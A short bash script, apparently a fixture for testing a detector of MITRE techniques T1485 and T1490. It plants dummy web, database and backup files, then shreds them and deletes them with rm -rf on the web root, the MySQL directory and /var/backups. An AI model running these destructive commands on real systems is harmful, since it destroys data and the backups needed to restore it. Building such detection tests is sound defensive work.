#!/bin/bash
# Destroy data and the means to restore it: shred and remove planted files, rm -rf the web root and the database directory, and delete everything in /var/backups.
# technique: T1485 T1490
# expect: data-destruction-command backup-deletion
set -eu
mkdir -p /var/www/html /var/lib/mysql/shop /var/backups
echo '<h1>shop</h1>' > /var/www/html/index.html
echo 'rows' > /var/lib/mysql/shop/orders.ibd
echo 'secret plans' > "$TPY_WORK/plans.txt"
tar czf /var/backups/www-2026-12-01.tgz -C /var/www html
cp /etc/passwd /var/backups/passwd.bak
shred -u -n 1 "$TPY_WORK/plans.txt"
rm -rf /var/www/
rm -rf /var/lib/mysql
rm -f /var/backups/*
